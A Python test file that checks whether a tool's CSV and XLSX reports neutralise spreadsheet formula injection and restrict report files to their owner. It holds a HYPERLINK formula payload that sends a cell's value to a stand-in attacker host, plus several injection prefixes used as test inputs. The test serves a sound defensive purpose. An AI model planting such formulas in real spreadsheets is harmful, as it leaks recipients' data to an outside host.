"""Issue 15 items 6 and 10: reports neutralise formulas and are readable by their owner only."""

from __future__ import annotations

import copy
import csv
import stat

from openpyxl import load_workbook

from .attackkit import World, snapshot

PAYLOAD = '=HYPERLINK("//e.vil/?"&D2,"Rosa")'
OTHERS = ("+1+2", "-1+2", "@SUM(A1)", "\tTAB", "\rCR", "\uff1d1+2")


def test_formulas_from_a_bundle_stay_text_in_csv_and_xlsx(world: World) -> None:
    records = []
    for n, text in enumerate((PAYLOAD, *OTHERS)):
        record = copy.deepcopy(world.records[n % 2])
        record["export_id"] = f"{n + 1:032x}"
        alias = next(p for p in record["answers"] if p.endswith("alias"))
        record["answers"][alias] = text
        record["site"] = "=1+2"
        records.append(record)
    world.cli("import", str(world.bundle("formula.tmb", records=records)), code=0)
    before = snapshot(world.lead)
    world.cli("report", "--csv", str(world.root / "csv"), code=0)
    world.cli("report", "--xlsx", str(world.root / "r.xlsx"), code=0)
    assert snapshot(world.lead) == before

    table = world.root / "csv" / "border_testimony.csv"
    with open(table, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    alias_column = next(c for c in rows[0] if c.endswith("alias"))
    assert sorted(r[alias_column] for r in rows) == sorted("'" + t for t in (PAYLOAD, *OTHERS))
    assert {r["_site"] for r in rows} == {"'=1+2"}
    for path in [*(world.root / "csv").iterdir(), world.root / "r.xlsx"]:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path

    sheet = load_workbook(world.root / "r.xlsx")["border_testimony"]
    header = [c.value for c in sheet[1]]
    cells = [row[header.index(alias_column)] for row in sheet.iter_rows(min_row=2)]
    # XML reads a lone CR as a line feed; the text is otherwise as entered.
    assert sorted(c.value for c in cells) == sorted(t.replace("\r", "\n") for t in (PAYLOAD, *OTHERS))
    assert {c.data_type for c in cells} == {"s"}  # text, never a formula
